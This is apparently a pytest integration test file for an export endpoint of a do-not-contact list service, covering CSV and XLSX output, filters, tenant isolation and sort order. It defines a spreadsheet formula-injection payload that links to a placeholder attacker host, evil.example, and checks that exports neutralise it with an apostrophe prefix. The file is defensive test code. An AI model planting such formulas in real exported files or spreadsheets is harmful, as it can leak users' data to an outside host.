"""Exports through the HTTP API against the real stack and the list view."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest

from tests.apikit import SECRET_B, MakeSettings, api_client, api_settings, auth
from tests.integration.test_api_imports import analyze, finished
from tests.kit import running

pytestmark = pytest.mark.integration

HOSTILE = '=HYPERLINK("http://evil.example/?leak","click me")'
ROWS = (
    b"contact,sender,channel\n"
    b'441234567890,"=HYPERLINK(""http://evil.example/?leak"",""click me"")",SMS\n'
    b"447700900123,-1+2,\n"
    b"jane@example.com,news@acme.com,EMAIL\n"
)


@pytest.fixture
async def client(make_settings: MakeSettings, tmp_path: Path) -> AsyncIterator[httpx.AsyncClient]:
    settings = await api_settings(make_settings, tmp_path)
    async with running(settings, "listwriter"), api_client(settings) as (client, _):
        yield client


async def imported(client: httpx.AsyncClient, accounts: list[str], expect: int) -> None:
    body = (await analyze(client, "list.csv", ROWS, skip_rows=1)).json()
    assert body["valid"] == 3, body
    r = await client.post(
        "/v1/imports", json={"upload_id": body["upload_id"], "accounts": accounts}, headers=auth()
    )
    assert (await finished(client, r.json()["import_id"]))["state"] == "finished"
    deadline = time.monotonic() + 20
    while (await client.get("/v1/entries", headers=auth())).json()["total"] < expect:
        assert time.monotonic() < deadline, "the list view never showed the import"
        await asyncio.sleep(0.1)


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def test_export_everything_a_filter_matches(client: httpx.AsyncClient) -> None:
    await imported(client, ["acme", "acme-eu"], 6)

    r = await client.get("/v1/entries/export", params={"account": "acme"}, headers=auth())
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"].startswith('attachment; filename="dnc-export-')
    rows = csv_rows(r.content)
    assert rows[0] == [
        "Contact information",
        "Sender",
        "Source",
        "Channel",
        "Account",
        "Added",
        "Expires",
    ]
    by_contact = {row[0]: row for row in rows[1:]}
    assert set(by_contact) == {"441234567890", "447700900123", "jane@example.com"}
    assert by_contact["441234567890"][1] == "'" + HOSTILE  # as the file wrote it
    assert by_contact["447700900123"][1:4] == ["'-1+2", "Import", "All channels"]
    assert {row[4] for row in rows[1:]} == {"acme"}
    added = [row[5] for row in rows[1:]]
    assert added == sorted(added, reverse=True)  # newest first

    # The listing's filters apply; no account = every account of the key.
    r = await client.get(
        "/v1/entries/export", params={"channel": "SMS", "format": "xlsx"}, headers=auth()
    )
    assert r.status_code == 200, r.text
    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["Entries"]
    rows_x = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert sorted(row[4] for row in rows_x) == ["acme", "acme-eu"]
    assert all(row[1] == "'" + HOSTILE for row in rows_x)

    # Another tenant's account: 403, the same whether it exists or not.
    answers = []
    for account in ("other", "no-such-account"):
        r = await client.get("/v1/entries/export", params={"account": account}, headers=auth())
        answers.append((r.status_code, r.json()))
    assert answers[0] == answers[1]
    assert answers[0][0] == 403
    # ... and another tenant's key sees none of this.
    r = await client.get("/v1/entries/export", headers=auth(SECRET_B))
    assert csv_rows(r.content)[1:] == []


async def test_export_selected_entries(client: httpx.AsyncClient) -> None:
    await imported(client, ["acme"], 3)
    listed: list[dict[str, Any]] = (
        await client.get("/v1/entries", params={"channel": "EMAIL"}, headers=auth())
    ).json()["entries"]
    gone = {"account": "acme", "contact": "+44 20 7946 0000", "channel": None, "sender": None}
    r = await client.post("/v1/entries/export", json={"keys": [*listed, gone]}, headers=auth())
    assert r.status_code == 200, r.text
    assert r.headers["x-dnc-missing"] == "1"
    rows = csv_rows(r.content)[1:]
    assert rows == [
        [
            "jane@example.com",
            "news@acme.com",
            "Import",
            "Email",
            "acme",
            listed[0]["added_at"],
            "Never",
        ]
    ]

    r = await client.post(
        "/v1/entries/export",
        params={"format": "xlsx"},
        json={"keys": [{"account": "other", "contact": "jane@example.com"}]},
        headers=auth(),
    )
    assert r.status_code == 403
    r = await client.post(
        "/v1/entries/export",
        json={"keys": [{"account": "acme", "contact": "12ab"}]},
        headers=auth(),
    )
    assert r.status_code == 422
    assert "12ab" in r.json()["error"]


async def test_exports_are_written_in_the_listings_sort_order(client: httpx.AsyncClient) -> None:
    await imported(client, ["acme"], 3)
    by_contact = ["441234567890", "447700900123", "jane@example.com"]
    for sort, order in (("contact", by_contact), ("-contact", by_contact[::-1])):
        r = await client.get("/v1/entries/export", params={"sort": sort}, headers=auth())
        assert r.status_code == 200, r.text
        assert [row[0] for row in csv_rows(r.content)[1:]] == order, sort

    # Selected entries too, whatever order the keys were sent in.
    listed = (await client.get("/v1/entries", headers=auth())).json()["entries"]
    r = await client.post(
        "/v1/entries/export",
        params={"sort": "-contact"},
        json={"keys": sorted(listed, key=lambda e: e["contact"])},
        headers=auth(),
    )
    assert r.status_code == 200, r.text
    assert [row[0] for row in csv_rows(r.content)[1:]] == by_contact[::-1]

    r = await client.get("/v1/entries/export", params={"sort": "colour"}, headers=auth())
    assert r.status_code == 422
    assert "colour" in r.json()["error"] and "is not a sort order" in r.json()["error"]
